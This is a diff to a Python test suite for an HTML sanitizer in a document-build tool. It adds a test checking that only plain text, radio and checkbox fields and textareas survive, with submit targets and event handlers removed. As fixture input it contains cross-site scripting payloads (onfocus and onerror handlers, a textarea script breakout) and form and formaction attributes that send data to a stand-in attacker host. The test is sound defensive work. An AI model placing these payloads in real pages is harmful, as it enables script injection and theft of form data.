@@ -106,11 +106,57 @@ def test_forms_frames_svg_and_event_handlers_are_removed(workspace: Path, outsid
           '<details open ontoggle="alert(5)"><summary>s</summary></details>')
     out = build("html", "md", "txt")
     html = out["html"]
-    for gone in ("<form", "<input", "<button", "<iframe", "<object", "<embed", "<svg", "<math",
-                 "xlink", "onclick", "onmouseover", "ontoggle", "javascript", EVIL):
+    for gone in ("<form", "<button", "<iframe", "<object", "<embed", "<svg", "<math", " action=",
+                 "formaction", "xlink", "onclick", "onmouseover", "ontoggle", "javascript", EVIL):
         assert gone not in html, gone
+    # a text field may stay (documents hold fill-in forms), but in no form and with nothing to send
+    assert '<input type="text" name="q">' in html
     assert '<p style="color: red">Kept text</p>' in html
     assert "Send" in out["txt"] and "Kept text" in out["md"]
+
+
+def test_form_fields_keep_only_the_allowed_kinds_and_attributes(workspace: Path,
+                                                                outside: Outside) -> None:
+    """Text, radio and checkbox inputs and textareas stay, with nothing that submits or fetches."""
+    block(workspace, "summary",
+          '<form action="http://evil.example/f" id="f"><p><label for="a" onclick="alert(1)">A</label>'
+          '<input type="TEXT" id="a" name="a" value="v" autofocus onfocus="alert(2)" form="f" '
+          'formaction="http://evil.example/fa" src="http://evil.example/s.png" list="l" '
+          'pattern=".*" aria-label="Field A">'
+          '<input type="image" src="http://evil.example/i.png" name="img">'
+          '<input type="submit" formaction="http://evil.example/s" value="Go">'
+          '<input type="hidden" name="hidden" value="secret"><input type="password" name="pw">'
+          '<input type="file" name="up"><input type="url" name="u"><input name="untyped">'
+          '<input type="radio" name="r" value="1" checked onchange="alert(3)">'
+          '<input type="checkbox" name="c" formaction="http://evil.example/c">'
+          '<textarea name="t" rows="4" cols="9" placeholder="p" onfocus="alert(4)" '
+          'aria-label="Notes"></script><img src=x onerror=alert(5)></textarea>'
+          '<textarea name="big" rows="100000">x</textarea>'
+          '<select name="s"><option>picked</option></select><datalist id="l"></datalist></p></form>')
+    out = build("html", "pdf")
+    html = out["html"]
+    body = tree(html).body
+    fields = [(e.tag, dict(e.attrib)) for e in body.iter("input", "textarea", "select")]
+    assert fields == [
+        ("input", {"type": "text", "id": "a", "name": "a", "value": "v", "aria-label": "Field A"}),
+        ("input", {"type": "radio", "name": "r", "value": "1", "checked": "checked"}),
+        ("input", {"type": "checkbox", "name": "c"}),
+        ("textarea", {"name": "t", "rows": "4", "aria-label": "Notes"}),
+        ("textarea", {"name": "big"}),
+    ]
+    assert body.find(".//textarea").text == "</script><img src=x onerror=alert(5)>"  # text, not markup
+    assert [dict(label.attrib) for label in body.iter("label")] == [{"for": "a"}]
+    for gone in ("<form", "<select", "<datalist", "<option", "picked", "secret", "formaction",
+                 "autofocus", "onfocus", "onchange", "onerror=alert(5)>", EVIL):
+        assert gone not in html.replace("&lt;img src=x onerror=alert(5)&gt;", ""), gone
+    from pypdf import PdfReader
+
+    reader = PdfReader(next(OUT.glob(f"{JD}.pdf")))
+    names = sorted(reader.get_fields())
+    assert names == ["a", "big", "c", "r", "t"]
+    for page in reader.pages:
+        for annot in page.get("/Annots", []):
+            assert "/A" not in annot.get_object() or annot.get_object()["/A"].get("/S") == "/URI"
 
 
 def test_body_attributes_cannot_carry_handlers(workspace: Path, outside: Outside) -> None:
